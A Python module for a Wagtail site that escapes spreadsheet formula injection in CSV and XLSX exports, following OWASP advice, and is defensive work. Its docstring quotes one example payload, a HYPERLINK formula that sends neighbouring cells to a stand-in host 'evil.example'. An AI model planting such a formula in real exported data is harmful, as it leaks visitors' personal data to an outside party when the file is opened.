"""Spreadsheet exports (Wagtail's CSV and XLSX downloads) that cannot carry formulas.

A value typed by a visitor — a name in a registration, a line of the contact form — that
starts with = + - @ (or a tab or carriage return) is taken for a formula by Excel and
LibreOffice when the export is opened: `=HYPERLINK("https://evil.example/?"&A2, "Kliknij")`
can send the neighbouring cells away, and older spreadsheets run commands. The export
prefixes such a value with a single quote, which spreadsheets read as "this is text"
(OWASP's advice for CSV injection).
"""

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """`value` as spreadsheet text that is never evaluated; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    """For views with Wagtail's SpreadsheetExportMixin (listings of models, form
    submissions): every cell and heading of the CSV and XLSX export goes through
    neutralise_formula()."""

    def preprocess_field_value(self, field, value, export_format):
        return neutralise_formula(super().preprocess_field_value(field, value, export_format))

    def get_heading(self, queryset, field):
        return neutralise_formula(super().get_heading(queryset, field))
